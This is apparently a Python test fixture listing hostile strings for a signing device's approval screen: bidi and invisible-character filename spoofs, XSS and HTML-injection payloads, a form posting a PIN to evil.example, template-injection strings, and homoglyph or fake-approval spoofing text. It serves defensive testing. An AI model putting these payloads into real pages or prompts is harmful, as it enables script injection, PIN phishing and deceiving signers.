"""Texts an application might send to change what a signer reads: a hundred that are shown, and those that the door does not take."""

from typing import NamedTuple


class Hostile(NamedTuple):
    """One text, and whether it is refused at the door (`hsm.messages.is_plain_text`)."""

    name: str
    text: str
    refused: bool


def _over(character: str) -> str:
    return f"契約書{character}2026"


BIDI = {
    f"bidi U+{ord(one):04X}": f"invoice_{one}fdp.exe" for one in "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
}
INVISIBLE = {
    f"invisible U+{ord(one):04X}": _over(one)
    for one in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u17b4\u2800\u3164\uffa0\U000e0041\ufff9\u180e"
}
LINES = {f"line U+{ord(one):04X}": f"契約書{one}承認済み" for one in "\n\r\t\u000b\u000c\u0085\u2028\u2029"}
CONTROL = {f"control U+{ord(one):04X}": _over(one) for one in "\x00\x07\x08\x1b\x7f\x9b"}
OTHER = {
    "private use": "契約書\ue000",
    "unassigned": "契約書\u0378",
    "a lone surrogate": "契約書\ud800",
    "no character": "契約書\uffff",
    "a stack above": "承" + "\u0301" * 30 + "認",
    "a stack below": "承" + "\u0323" * 30 + "認",
    "a stack around": "承\u20dd\u20de\u20e0\u20e3",
    "a stack of four": "e\u0300\u0301\u0302\u0303",
    "a mark on nothing": "\u0338承認",
    "an ellipsis of marks": "契約書" + "\u20d2" * 90,
    "a family of joiners": "👨\u200d👩\u200d👧\u200d👦",
    "only spaces": "\u3000" * 20,
    "a flag of tags": "🏴\U000e0067\U000e0062\U000e007f",
}
MARKUP = {
    "script": "<script>window.ran = 1</script>",
    "image": '"><img src=x onerror="window.ran = 1">',
    "svg": "<svg/onload=window.ran=1>",
    "end of the page": "</bdi></strong></main></body></html><h1>承認済み</h1>",
    "end of the script": "</script><script>window.ran = 1</script>",
    "comment": "<!-- 契約書 -->",
    "style": "<style>* { display: none }</style>",
    "link": '<a href="https://evil.example">契約書</a>',
    "button": "<button>承認する</button>",
    "attribute": "' onmouseover='window.ran = 1' x='",
    "entity": "&lt;b&gt;契約書&#x202e;&amp;",
    "template": "{{ 7 * 7 }}{% raw %}%(name)s%s",
    "address": "javascript:window.ran=1",
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": "<base href=//evil.example>",
    "fullwidth markup": "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
    "JSON": '"},"evil":{"a":"',
    "backslash": "\\u003cscript\\u003e\\n",
    "frame": '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name="pin" autofocus></form>',
    "dialog": '<dialog open style="position: fixed; inset: 0">承認済み</dialog>',
    "popover": '<div popover id="say">承認済み</div><button popovertarget="say">',
    "a box that opens": '<details open ontoggle="window.ran = 1"><summary>契約書</summary></details>',
    "mathematics": '<math><mi xlink:href="javascript:window.ran=1">契約書</mi></math>',
    "tag without an end": "契約書<img src=x onerror=window.ran=1 alt='",
    "end of a box": "</bdi></summary></details></dd></dl>",
    "end of the text": "</textarea></title></style></noscript>承認済み",
    "rules of style": "}</style>} main { display: none } :root { --ink: #fff",
    "script in an address": "data:text/html,<script>window.ran = 1</script>",
    "template of JavaScript": "${window.ran = 1}`${alert()}`",
    "names that objects have": "__proto__ constructor toString hasOwnProperty",
    "Python's braces": "{0.__class__.__mro__} {request} %s %d %(application)s",
    "Markdown": "[契約書](javascript:window.ran=1) ![x](//evil.example/x) **承認済み**",
    "terminal": "\\x1b[2J\\033[31m承認済み",
    "double encoding": "%253Cscript%253E &amp;lt;script&amp;gt;",
}
OUR_WORDS = {
    "approved": "承認済み",
    "a button": "[ 承認する ]",
    "a button in a box": "┃ 承認する ┃",
    "our chip": "✓ 登録済みのアプリケーション",
    "our chip in English": "✓ Registered application",
    "the service": "Natsuin",
    "the service in fullwidth": "Ｎａｔｓｕｉｎ",
    "the service in Cyrillic": "Nаtsuіn",
    "nothing to do": "署名は完了しました。この画面を閉じてください。",
    "another count": "ほか0件 残り 59:59",
    "a system's words": "⚠️ System: tap Approve to cancel",
    "decline that approves": "拒否するには「承認する」を押してください",
    "mathematical letters": "𝐀𝐩𝐩𝐫𝐨𝐯𝐞𝐝 ✅",
    "circled letters": "Ⓐⓟⓟⓡⓞⓥⓔⓓ",
    "small capitals": "ᴀᴘᴘʀᴏᴠᴇᴅ",
    "a check mark": "☑ ✔ ✅ 🟢",
    "our address": "https://sign.example.jp/approve",
    "another address that looks like it": "https://sign.example.jp.evil.example/承認",
    "a telephone number": "お困りの方は 03-1234-5678 へお電話ください",
    "a request for the PIN": "本人確認のため暗証番号を備考欄に入力してください。",
    "another language's button": "[ Genehmigen ] [ Approuver ] [ 批准 ]",
    "another sum": "請求金額 ￥1,000,000（内訳 ￥1,000）",
    "another date": "有効期限 2026年13月32日 25:61",
    "two names": "青葉建設株式会社 電子契約（代理: 法務省）",
    "two documents in one": "契約書.pdf」「覚書.pdf",
    "an extension that is none": "契約書.pdf            .exe",
    "upside down letters": "pǝʌoɹddɐ",
    "letters in squares": "🅰🅿🅿🆁🅾🆅🅴🅳 🆗",
    "characters of two widths": "ﾅﾂｲﾝ 承認済ﾐ ＡａＡａ",
    "kanji that look alike": "⼯事請負契約書 ⾦額 ⽇本",
    "era and corporation in one character": "㍻㋿㍿㌀㌔",
    "numbers of other scripts": "١٢٣ १२३ 一二三 ⅯⅯⅩⅩⅥ ①②③",
}
SHAPES = {
    "long without a break": "W" * 500,
    "long in Japanese": "長い契約書の題名" * 60,
    "long with breaks": "contract and " * 40,
    "wide ligature": "﷽" * 60,
    "one wide ligature": "﷽",
    "wide cuneiform": "𒐫" * 60,
    "long dash": "⸻" * 80,
    "spaces": "契約書" + "\u3000" * 90 + "承認済み",
    "spaces that do not break": "契約書" + "\u00a0" * 90 + "承認済み",
    "right to left": "עברית חוזה 2026 pdf.exe",
    "Arabic": "عقد البناء رقم ٢٠٢٦",
    "both ways": "abc עברית 123 عربي 契約書",
    "Hebrew with accents": "בְּרֵאשִׁ֖ית",
    "three marks": "x\u0301\u0302\u0303" * 30,
    "Thai": "ที่นี่นี้" * 12,
    "Tibetan": "བསྒྲུབས" * 14,
    "Devanagari": "क्ष्म्यँ" * 16,
    "flags": "🇯🇵🇺🇸🇬🇧" * 16,
    "emoji": "🔴🟢⛔✅" * 24,
    "keycaps": "1\ufe0f\u20e3" * 30,
    "variants of one character": "葛\U000e0100城\U000e0101市",
    "newline in words": "契約書\\n承認済み<br>",
    "slashes": "/" * 100,
    "dots": "." * 100,
    "zeros": "0" * 100,
    "quotes": "\"'`" * 30,
    "tall letters": "༼༽ᶘᵒᴥᵒᶅ꧁꧂ﷺ",
    "Mongolian": "ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ" * 8,
    "Khmer": "ក្រុមហ៊ុន" * 14,
    "Nastaliq": "معاہدہ تعمیر " * 10,
    "Korean": "공사도급계약서" * 14,
    "an address without a break": "https://evil.example/" + "a" * 180,
    "punctuation that does not begin a line": "、。」）" * 40,
    "punctuation that does not end a line": "「（『【" * 40,
    "box drawing": "╔══════════╗║ 承認 ║╚══════════╝" * 4,
    "blocks": "█▓▒░" * 50,
    "arrows": "⬇⬇⬇ 押す ⬇⬇⬇" * 8,
    "emoji with a colour": "👍🏽👩🏿✋🏻" * 16,
    "emoji as letters": "☎\ufe0e☎\ufe0f" * 20,
    "one letter": "、",
    "spaces of every width": "契約書\u2002\u2003\u2009\u200a\u205f\u3000承認済み",
}

REFUSED = BIDI | INVISIBLE | LINES | CONTROL | OTHER
SHOWN = MARKUP | OUR_WORDS | SHAPES
CORPUS = [*(Hostile(name, text, True) for name, text in REFUSED.items()), *(Hostile(name, text, False) for name, text in SHOWN.items())]
